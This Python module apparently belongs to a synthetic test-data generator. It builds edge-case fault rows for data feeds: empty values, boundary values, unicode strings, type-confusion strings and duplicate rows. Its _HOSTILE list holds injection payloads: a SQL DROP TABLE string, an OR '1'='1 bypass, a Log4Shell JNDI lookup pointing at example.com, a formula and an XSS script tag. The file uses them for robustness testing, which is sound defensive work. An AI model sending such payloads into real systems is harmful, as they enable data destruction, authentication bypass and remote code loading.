"""Rows that programs stumble over: empty, at the bounds, in strange letters, hostile, of another type, twice."""

from __future__ import annotations

from collections.abc import Iterator, Sequence
from typing import Final

from lakelogic_assets.plan.synthetic import (
    Change,
    Choice,
    ColumnPlan,
    Fault,
    Feed,
    FileForm,
    Number,
    Pattern,
    Pooled,
    Within,
)

_UNICODE: Final = ("Zoë 💚 Ωmega", "日本語テキスト", "مرحبا بالعالم", "e\u0301 combined", "\u200bzero width")
_HOSTILE: Final = (
    "'; DROP TABLE users; --",
    "' OR '1'='1",
    "${jndi:ldap://example.com/a}",
    "=1+1",
    "<script>alert(1)</script>",
)
_CONFUSED: Final = ("true", "NaN", "1e400", "0x1F", "1,234.56", "2026-02-30")
_SPACES: Final = ("", " ", "\t")


def plan_edges(feed: Feed, form: FileForm) -> tuple[Fault, ...]:
    """A row for each: the first columns of a kind stand for the others."""
    found = list(_of_columns(feed, form))
    return (*found, Fault("duplicate row")) if feed.key else tuple(found)


def _of_columns(feed: Feed, form: FileForm) -> Iterator[Fault]:
    free = [column for column in feed.columns if column.name not in feed.key]
    texts = [column for column in free if column.type == "STRING" and isinstance(column.strategy, Pooled | Pattern)]
    texts = texts or [column for column in free if column.type == "STRING"]
    for column in free:
        yield Fault("empty", (Change(column.name, (None,)),))
        yield from _bounds(column)
    for column in texts[:3]:
        yield from _each("unicode", column, _UNICODE)
        yield from _each("SQL and script text", column, _HOSTILE)
        yield from _each("blank", column, _SPACES)
    if not form.is_typed:
        for column in [each for each in free if isinstance(each.strategy, Number | Within)][:3]:
            yield from _each("type confusion", column, _CONFUSED)


def _each(how: str, column: ColumnPlan, values: Sequence[str]) -> Iterator[Fault]:
    return (Fault(how, (Change(column.name, (value,)),)) for value in values)


def _bounds(column: ColumnPlan) -> Iterator[Fault]:
    """The lowest and the highest value that are allowed, and the first and last that are listed."""
    match column.strategy:
        case Number(low, high):
            yield Fault("boundary value", (Change(column.name, (low,)),))
            yield Fault("boundary value", (Change(column.name, (high,)),))
        case Within(first, last):
            yield Fault("boundary value", (Change(column.name, (first,)),))
            yield Fault("boundary value", (Change(column.name, (last,)),))
        case Choice(values) if len(values) > 1:
            yield Fault("boundary value", (Change(column.name, (values[-1],)),))
    if column.type == "STRING" and column.max_length:
        yield Fault("boundary value", (Change(column.name, ("x" * column.max_length,)),))
